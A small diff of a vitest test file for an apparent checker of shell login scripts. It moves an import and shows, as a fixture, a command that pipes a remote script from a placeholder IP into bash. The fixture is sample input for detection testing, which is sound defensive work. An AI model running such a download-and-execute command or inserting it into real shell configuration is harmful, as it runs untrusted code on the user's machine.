@@ -3,7 +3,8 @@ import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { makeRoot, scanRoot, shown } from '../../../test/throwaway-root.ts';
 import { loginScripts } from './check.ts';
-import { aliasesOf, assignmentsOf, shadowing, variableSign } from './lines.ts';
+import { aliasesOf, assignmentsOf, variableSign } from './lines.ts';
+import { shadowing } from '../shadowing.ts';
 
 const fetched = 'curl -fsSL http://203.0.113.9/i.sh | bash';
 const ordinaryRc = [
